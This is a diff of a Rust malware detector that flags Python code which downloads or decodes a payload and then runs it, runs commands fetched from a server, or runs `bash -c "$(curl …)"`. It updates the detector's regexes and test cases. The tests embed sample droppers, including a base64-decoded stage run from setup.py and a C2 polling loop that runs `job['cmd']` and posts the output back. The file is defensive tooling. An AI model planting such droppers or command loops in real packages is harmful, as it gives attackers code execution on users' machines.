@@ -6,8 +6,14 @@
 //! statement runs, however far apart (data flow by name: same function, or a module-level
 //! name); a command string or script that downloads and then starts what it saved
 //! (`DownloadFile`/`Invoke-WebRequest -OutFile` + `Start-Process`, `certutil -urlcache`
-//! / `bitsadmin /transfer` then the `.exe`, `curl -o x && chmod +x x && ./x`). Command strings
-//! shown to a person (help text, `print`, log lines) are not commands.
+//! / `bitsadmin /transfer` then the `.exe`, `curl -o x && chmod +x x && ./x`); a download
+//! saved by a helper function that returns the path, run by its caller (`p = fetch(u)` then
+//! `Popen([p])`, or `Popen([fetch(u)])`), by any interpreter (`java -jar`, `node`, `perl`…);
+//! a decoded payload written to a path that is then run (decode, write, run); a command read
+//! from a response and run (`job = requests.get(u).json()` then `getoutput(job['cmd'])`: a
+//! remote command loop); a shell running a fetch's output by command substitution (`bash -c
+//! "$(curl …)"`). Command strings shown to a person (help text, `print`, log lines) are not
+//! commands.
 //!
 //! Python code only for calls; strings for one-liners. Never skipped (this is the
 //! dropper pattern itself) but capped by place (`context`): tests/docs/CI medium,
@@ -26,7 +32,7 @@ use std::sync::LazyLock;
 
 pub(crate) static META: DetectorMeta = DetectorMeta {
     id: "execution.download-and-execute",
-    revision: 2,
+    revision: 3,
     title: "Downloads and executes code.",
     category: Category::Execution,
     severity: Severity::Critical,
@@ -184,6 +190,13 @@ impl Detector for DownloadExecute {
             "Start-BitsTransfer",
             "download_file",
             "download_url_to_file",
+            // Decode, write, run ([`DECODED_WRITE`]).
+            "b64decode",
+            "b85decode",
+            "b32decode",
+            "decodebytes",
+            "fromhex",
+            "unhexlify",
         ])
     }
     fn scan_text(&self, file: &TextFile<'_>, hits: &mut Hits) {
@@ -212,6 +225,11 @@ impl Detector for DownloadExecute {
             if !src.python || (src.kind_at(start) == Kind::Str && !shown(start)) {
                 let m = &file.text[start..end];
                 push(hits, start, m.split_whitespace().next().unwrap_or("").trim_end_matches('('));
+            }
+        }
+        for (start, dl) in substituted_fetches(file.text) {
+            if !src.python || (src.kind_at(start) == Kind::Str && !shown(start)) {
+                push(hits, start, &format!("$({dl} …) run"));
             }
         }
         let drops = may_drop.then(|| DROP_RUN.captures_iter(file.text));
@@ -265,9 +283,6 @@ impl Detector for DownloadExecute {
                     .map(|m| (m.start(), false)),
             )
             .collect();
-        if saves.is_empty() {
-            return;
-        }
         let mut runs: Vec<(usize, String)> =
             sinks::find(src, &[SinkKind::Process]).into_iter().map(|s| (s.offset, s.name.to_string())).collect();
         runs.extend(
@@ -297,7 +312,7 @@ impl Detector for DownloadExecute {
             .collect();
         let within = |v: &[usize], a: usize, b: usize| v.iter().any(|&x| x > a && x < b);
         let mut reported: Vec<usize> = Vec::new();
-        for (off, name) in &runs {
+        for (off, name) in runs.iter().filter(|_| !saves.is_empty()) {
             let (off, name) = (*off, name.as_str());
             let l = line(off);
             let follows = |&(s, needs_write): &(usize, bool)| {
@@ -312,13 +327,14 @@ impl Detector for DownloadExecute {
             }
         }
         saved_then_run(file, &runs, &reported, &mut |off, ind| push(hits, off, &ind));
+        fetched_command_run(file, &runs, &mut |off, ind| push(hits, off, &ind));
     }
 }
 
 /// An interpreter or launcher right before a path in a command: `bash <p>`, `['sh', p]`,
 /// `sys.executable, p`, `chmod +x <p>`, `cmd /c <p>`, `start <p>`.
 static RUNNER: LazyLock<Regex> = LazyLock::new(|| {
-    Regex::new(r#"(?i)(?-u:\b)(?:(?:ba|z|c|k)?sh|python[\d.]*|py|pwsh|powershell(?:\.exe)?|cmd(?:\.exe)?\s*/c|wscript|cscript|mshta|rundll32|start|chmod\s+\+?[0-7x]+|sys\.executable|source)['"]?\s*[,\s]\s*(?:['"][^'"]*['"]\s*,\s*)*['"]?[^,]*$"#)
+    Regex::new(r#"(?i)(?-u:\b)(?:(?:ba|z|c|k)?sh|python[\d.]*|py|pwsh|powershell(?:\.exe)?|cmd(?:\.exe)?\s*/c|wscript|cscript|mshta|rundll32|start|chmod\s+\+?[0-7x]+|sys\.executable|source|javaw?(?:\.exe)?|node|perl|ruby|php|osascript|msiexec)['"]?\s*[,\s]\s*(?:['"][^'"]*['"]\s*,\s*)*['"]?[^,]*$"#)
         .expect("runner")
 });
 
@@ -349,10 +365,39 @@ fn enclosing_def(src: &Source<'_>, off: usize) -> Option<usize> {
     None
 }
 
-/// A file that fetches, saves the body to a path (a variable or a literal) and later runs
-/// that same path, however far apart: data flow by name. A variable must be written and
-/// run in the same top-level function, or be assigned at module level; a literal path
-/// may be anywhere in the file.
+/// A decoded payload written to a file: `f.write(base64.b64decode(…))`, `zlib.decompress`,
+/// `bytes.fromhex`, `binascii.unhexlify`… as the written value.
+static DECODED_WRITE: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"\.write(?:_bytes|_text)?\s*\(\s*(?:[A-Za-z_][\w.]*\.)?(?:b64decode|b32decode|b85decode|a85decode|urlsafe_b64decode|decodebytes|decompress|fromhex|unhexlify)\s*\(")
+        .expect("decoded write")
+});
+/// A name bound to what a function returns: `jar = _pull(url, 'x.jar')`.
+static ASSIGNED_CALL: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"(?m)^[ \t]*(?P<v>[A-Za-z_]\w*)\s*=\s*(?:self\.)?(?P<f>[A-Za-z_]\w*)\s*\(").expect("assigned call")
+});
+/// `def name(` at the start of a line (any indentation).
+static DEF_NAME: LazyLock<Regex> =
+    LazyLock::new(|| Regex::new(r"^(?:async[ \t]+)?def[ \t]+(?P<f>[A-Za-z_]\w*)\s*\(").expect("def name"));
+
+/// What a run's argument may name as the saved file.
+enum Saved<'t> {
+    /// A variable assigned the saved path (scoped: same function, or module level).
+    Name(&'t str),
+    /// A literal path, quotes included (anywhere in the file).
+    Literal(&'t str),
+    /// A call of a function that saves a download and returns (the path): `fetch(u)` run
+    /// directly, anywhere in the file.
+    Call(String),
+}
+
+/// A file that fetches (or decodes), saves the body to a path (a variable or a literal) and
+/// later runs that same path, however far apart: data flow by name. A variable must be
+/// written and run in the same top-level function, or be assigned at module level; a literal
+/// path may be anywhere in the file. A function that saves a download and returns is a
+/// download too: a run of what it returns (`subprocess.Popen([fetch(u)])`, or `p = fetch(u)`
+/// then `Popen([p])` in one function) runs the download. Without a fetch, bytes written from
+/// a decoder (`f.write(base64.b64decode(…))`) within three lines of opening the path are the
+/// payload: decode, write, run.
 fn saved_then_run(
     file: &TextFile<'_>,
     runs: &[(usize, String)],
@@ -363,30 +408,68 @@ fn saved_then_run(
     let t = file.text;
     let fetches =
         FETCH_API.find_iter(t).chain(super::net_downloads_file::SAVE_API.find_iter(t)).any(|m| src.is_code(m.start()));
-    if !fetches {
+    let decoded: Vec<usize> = DECODED_WRITE.find_iter(t).map(|m| m.start()).filter(|&o| src.is_code(o)).collect();
+    if !fetches && decoded.is_empty() {
         return;
     }
+    let lines = pysrc::Lines::new(t);
     let block_of = |o: usize| enclosing_def(src, o);
-    let saved: Vec<(usize, &str)> = SAVED_TO
+    let mut saved: Vec<(usize, Saved<'_>)> = SAVED_TO
         .captures_iter(t)
         .filter(|c| src.is_code(c.get(0).expect("m").start()))
         .filter_map(|c| {
             let p = c.name("a").or(c.name("b")).or(c.name("c"))?;
-            Some((p.start(), p.as_str()))
+            // Without a fetch in the file, only a path a decoder's output is written to.
+            let near = |&d: &usize| d > p.start() && lines.line(d) - lines.line(p.start()) <= 3;
+            if !fetches && !decoded.iter().any(near) {
+                return None;
+            }
+            let literal = p.as_str().starts_with(['\'', '"']);
+            let s = if literal { Saved::Literal(p.as_str()) } else { Saved::Name(p.as_str()) };
+            Some((p.start(), s))
         })
         .collect();
+    // Functions (top-level `def`s) that save a download and return something.
+    let mut helpers: Vec<&str> = Vec::new();
+    if fetches {
+        for (at, _) in &saved {
+            let Some(d) = block_of(*at) else { continue };
+            let Some(c) = DEF_NAME.captures(&t[d..]) else { continue };
+            let body_end = pysrc::find_at_starts(&NEW_BLOCK_AT, t, new_block_starts(t))
+                .into_iter()
+                .map(|(s, _)| s)
+                .find(|&s| s > *at && t[s + 1..].starts_with(|c: char| !c.is_whitespace()))
+                .unwrap_or(t.len());
+            let returns = t[*at..body_end].match_indices("return ").any(|(i, _)| src.is_code(at + i));
+            let name = c.name("f").expect("f").as_str();
+            if returns && !helpers.contains(&name) {
+                helpers.push(name);
+            }
+        }
+        for c in ASSIGNED_CALL.captures_iter(t) {
+            let (v, f) = (c.name("v").expect("v"), c.name("f").expect("f"));
+            if helpers.contains(&f.as_str()) && src.is_code(v.start()) {
+                saved.push((v.start(), Saved::Name(v.as_str())));
+            }
+        }
+        saved.extend(helpers.iter().map(|h| (0, Saved::Call(format!("{h}(")))));
+    }
     for (off, name) in runs {
         if reported.contains(off) {
             continue;
         }
         let open = t[*off..].find('(').map_or(t.len(), |p| off + p + 1);
         let arg = pysrc::call_argument(t, open, 400);
-        let hit = saved.iter().find(|&&(at, p)| {
-            if at >= *off {
+        let hit = saved.iter().find(|(at, p)| {
+            if *at >= *off {
                 return false;
             }
-            let literal = p.starts_with(['\'', '"']);
-            let needle = if literal { p.trim_matches(['\'', '"']) } else { p };
+            // (needle, whole word before, whole word after): a call's needle ends with `(`.
+            let (needle, bounded, bounded_after) = match p {
+                Saved::Name(n) => (*n, true, true),
+                Saved::Literal(l) => (l.trim_matches(['\'', '"']), false, false),
+                Saved::Call(c) => (c.as_str(), true, false),
+            };
             // The saved file is what runs: the program itself, an interpreter's script, or
             // the target of startfile/chmod — not an argument (`git clone URL <path>`).
             let runs_it = |i: usize| {
@@ -398,23 +481,109 @@ fn saved_then_run(
             let mentioned = arg.match_indices(needle).any(|(i, _)| {
                 let before = arg[..i].chars().next_back();
                 let after = arg[i + needle.len()..].chars().next();
-                (literal
-                    || !before.is_some_and(|c| c.is_alphanumeric() || c == '_' || c == '.')
-                        && !after.is_some_and(|c| c.is_alphanumeric() || c == '_'))
-                    && runs_it(i)
+                let word_before = before.is_some_and(|c| c.is_alphanumeric() || c == '_' || c == '.');
+                let word_after = bounded_after && after.is_some_and(|c| c.is_alphanumeric() || c == '_');
+                (!bounded || !(word_before || word_after)) && runs_it(i)
             });
-            let module_name = || {
-                t.match_indices(p).any(|(i, _)| {
+            let module_name = |v: &str| {
+                t.match_indices(v).any(|(i, _)| {
                     (i == 0 || t.as_bytes()[i - 1] == b'\n')
-                        && t[i + p.len()..].trim_start_matches([' ', '\t']).starts_with('=')
+                        && t[i + v.len()..].trim_start_matches([' ', '\t']).starts_with('=')
                 })
             };
-            mentioned && (literal || block_of(at) == block_of(*off) || module_name())
+            mentioned
+                && match p {
+                    Saved::Name(v) => block_of(*at) == block_of(*off) || module_name(v),
+                    Saved::Literal(_) | Saved::Call(_) => true,
+                }
         });
         if let Some((_, p)) = hit {
-            push(*off, format!("download saved to {p} then {name}"));
+            let what = if fetches { "download" } else { "decoded payload" };
+            let ind = match p {
+                Saved::Name(v) => format!("{what} saved to {v} then {name}"),
+                Saved::Literal(v) => format!("{what} saved to {v} then {name}"),
+                Saved::Call(c) => format!("download saved by {c}) then {name}"),
+            };
+            push(*off, ind);
         }
     }
+}
+
+/// A name assigned from a network read: `job = requests.get(u).json()`, `cmd = urlopen(u)
+/// .read().decode()`, `cmd = session.get(u).text`.
+static FETCHED_NAME: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"(?m)^[ \t]*(?P<v>[A-Za-z_]\w*)\s*=[^=\n][^\n]*?(?P<f>(?-u:\b)(?:urllib\.request\.urlopen|urllib2\.urlopen|urlopen|requests\.(?:get|post|request)|httpx\.(?:get|post)|\w+\.get|\w+\.post)\s*\([^\n]*\)\s*\.(?:text|content|json\s*\(|read\s*\()|(?-u:\b)(?:urllib\.request\.urlopen|urlopen)\s*\()")
+        .expect("fetched name")
+});
+
+/// A command read from the network and run: a process started with a name assigned from a
+/// response (`job = requests.get(u).json()` then `subprocess.getoutput(job['cmd'])`, `os.system
+/// (cmd)`) in the same function or at module level, the name being the command itself (first
+/// argument) or a shell's `-c` script. A remote command loop; the server decides what runs.
+fn fetched_command_run(file: &TextFile<'_>, runs: &[(usize, String)], push: &mut dyn FnMut(usize, String)) {
+    let src = file.source();
+    let t = file.text;
+    let names: Vec<(usize, &str)> = FETCHED_NAME
+        .captures_iter(t)
+        .filter(|c| src.is_code(c.name("f").expect("f").start()))
+        .filter_map(|c| c.name("v"))
+        .filter(|v| src.is_code(v.start()))
+        .map(|v| (v.start(), v.as_str()))
+        .collect();
+    if names.is_empty() {
+        return;
+    }
+    for (off, name) in runs {
+        if name.ends_with("chmod") || name.ends_with("S_IEXEC") {
+            continue;
+        }
+        let open = t[*off..].find('(').map_or(t.len(), |p| off + p + 1);
+        let arg = pysrc::call_argument(t, open, 400);
+        let lead = arg.trim_start_matches(|c: char| c.is_whitespace() || c == '[' || c == '(');
+        let first =
+            |v: &str| lead.starts_with(v) && !lead[v.len()..].starts_with(|c: char| c.is_alphanumeric() || c == '_');
+        let shell_script = |v: &str| {
+            arg.match_indices(v).any(|(i, _)| {
+                let before = arg[..i].trim_end_matches(|c: char| c.is_whitespace() || c == ',');
+                before.ends_with("'-c'") || before.ends_with("\"-c\"") || before.ends_with("'/c'")
+            })
+        };
+        let hit = names.iter().find(|&&(at, v)| {
+            at < *off
+                && (first(v) || shell_script(v))
+                && (enclosing_def(src, at) == enclosing_def(src, *off) || t[..at].ends_with('\n') || at == 0)
+        });
+        if let Some((_, v)) = hit {
+            push(*off, format!("fetched command {v} then {name}"));
+        }
+    }
+}
+
+/// A fetch whose output a shell runs through command substitution: `bash -c "$(curl -fsSL u)"`,
+/// `sh -c "$(wget -qO- u)"`, `eval "$(curl u)"`, `python3 -c "$(curl u)"`. Offsets of the
+/// substitution and the downloader's name.
+fn substituted_fetches(text: &str) -> Vec<(usize, &'static str)> {
+    static RUNS_SUBST: LazyLock<Regex> = LazyLock::new(|| {
+        Regex::new(r#"(?i)(?:(?-u:\b)(?:(?:ba|z|da)?sh|python[\d.]*|perl|ruby|node)\s+-c|(?-u:\b)eval)\s*['"\\]*$"#)
+            .expect("runs subst")
+    });
+    let mut out = Vec::new();
+    for (i, _) in text.match_indices("$(") {
+        let rest = text[i + 2..].trim_start_matches([' ', '\t']);
+        let dl = if rest.as_bytes().get(..5).is_some_and(|b| b.eq_ignore_ascii_case(b"curl ")) {
+            "curl"
+        } else if rest.as_bytes().get(..5).is_some_and(|b| b.eq_ignore_ascii_case(b"wget ")) {
+            "wget"
+        } else {
+            continue;
+        };
+        let ls = text[..i].rfind('\n').map_or(0, |p| p + 1);
+        let from = (ls..=i).find(|&b| text.is_char_boundary(b) && i - b <= 60).unwrap_or(i);
+        if RUNS_SUBST.is_match(&text[from..i]) {
+            out.push((i, dl));
+        }
+    }
+    out
 }
 
 #[cfg(test)]
@@ -604,6 +773,104 @@ mod tests {
                     "pkg/cli.py",
                     Runtime,
                     "print('Install the server with: curl -fsSL https://example.org/i.sh | sh')\n",
+                    None,
+                ),
+                (
+                    "a helper saves a download and returns the path; its caller runs it with java -jar",
+                    "pkg/__init__.py",
+                    Runtime,
+                    "import os, subprocess, urllib.request\ndef _pull(url, name):\n    dst = os.path.join(TMP, name)\n    urllib.request.urlretrieve(url, dst)\n    return dst\n\ndef _boot():\n    jar = _pull(U, 'u.jar')\n    subprocess.Popen(['java', '-jar', jar])\n",
+                    Some((9, "download saved to jar then subprocess.Popen", Critical)),
+                ),
+                (
+                    "a saving helper's call run directly",
+                    "setup.py",
+                    InstallTime,
+                    "import os, urllib.request, subprocess\ndef fetch(u):\n    d = os.path.expanduser('~/.local/bin/svc')\n    urllib.request.urlretrieve(u, d)\n    return d\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\nsubprocess.Popen([fetch(U)])\n",
+                    Some((36, "download saved by fetch() then subprocess.Popen", Critical)),
+                ),
+                (
+                    "a model downloader returning a path that is passed as an argument, not run",
+                    "pkg/hub.py",
+                    Runtime,
+                    "def download(u):\n    d = os.path.join(CACHE, 'm.bin')\n    urlretrieve(u, d)\n    return d\n\ndef convert():\n    p = download(U)\n    subprocess.run(['converter', '--input', p])\n",
+                    None,
+                ),
+                (
+                    "a helper that saves but returns nothing, a process of the same name elsewhere",
+                    "pkg/hub.py",
+                    Runtime,
+                    "def fetch(u, d):\n    urlretrieve(u, d)\n\ndef go():\n    d = fetch(U, D)\n    subprocess.run([d])\n",
+                    None,
+                ),
+                (
+                    "a decoded stage written to a temp file and run by the interpreter",
+                    "setup.py",
+                    InstallTime,
+                    "import base64, os, subprocess, sys\np = os.path.join(TMP, 'stage.py')\nwith open(p, 'w') as f:\n    f.write(base64.b64decode(S).decode())\nsubprocess.Popen([sys.executable, p])\n",
+                    Some((5, "decoded payload saved to p then subprocess.Popen", Critical)),
+                ),
+                (
+                    "decoded data written to a file that a process only reads",
+                    "pkg/fixture.py",
+                    Runtime,
+                    "p = os.path.join(TMP, 'img.png')\nwith open(p, 'wb') as f:\n    f.write(base64.b64decode(PNG))\nsubprocess.run(['optipng', p])\n",
+                    None,
+                ),
+                (
+                    "a plain script written (no decoder) and run by the interpreter",
+                    "pkg/runner.py",
+                    Runtime,
+                    "p = os.path.join(TMP, 'job.py')\nwith open(p, 'w') as f:\n    f.write(SCRIPT)\nsubprocess.run([sys.executable, p])\n",
+                    None,
+                ),
+                (
+                    "a command read from a response and run through the shell, in a loop",
+                    "pkg/__init__.py",
+                    Runtime,
+                    "def _poll():\n    while True:\n        job = requests.get(C2, timeout=10).json()\n        res = subprocess.getoutput(job['cmd'])\n        requests.post(C2, data={'o': res})\n",
+                    Some((4, "fetched command job then subprocess.getoutput", Critical)),
+                ),
+                (
+                    "a fetched script handed to sh -c",
+                    "pkg/a.py",
+                    Runtime,
+                    "cmd = urllib.request.urlopen(U).read().decode()\nsubprocess.run(['sh', '-c', cmd])\n",
+                    Some((2, "fetched command cmd then subprocess.run", Critical)),
+                ),
+                (
+                    "a fetched version passed as an argument to pip",
+                    "pkg/update.py",
+                    Runtime,
+                    "def up():\n    latest = requests.get(API).json()['version']\n    subprocess.run([sys.executable, '-m', 'pip', 'install', 'pkg==' + latest])\n",
+                    None,
+                ),
+                (
+                    "a fetched name in one function, a process of that name in another",
+                    "pkg/a.py",
+                    Runtime,
+                    "def a():\n    cmd = requests.get(U).text\n    return cmd\n\ndef b(cmd):\n    subprocess.run(cmd)\n",
+                    None,
+                ),
+                (
+                    "bash -c running a curl by command substitution",
+                    "pkg/__init__.py",
+                    Runtime,
+                    "subprocess.Popen('bash -c \"$(curl -fsSL https://example.org/y)\"', shell=True)\n",
+                    Some((1, "$(curl …) run", Critical)),
+                ),
+                (
+                    "a make variable after $( with a non-ASCII character right after",
+                    "pkg-1.0/Makefile",
+                    Other,
+                    "lint:\n\t@echo \"$(RED)\u{2716}$(NC) failed\"\n",
+                    None,
+                ),
+                (
+                    "a version read by command substitution, printed",
+                    "pkg/tools/release.sh",
+                    Other,
+                    "VERSION=\"$(curl -s https://example.org/latest)\"\necho \"$VERSION\"\n",
                     None,
                 ),
                 ("response written then run", "pkg/a.py", Runtime, "r = requests.get(U)\nopen(p, \x27wb\x27).write(r.content)\nsubprocess.call([p])\n", Some((3, "download then subprocess.call", Critical))),
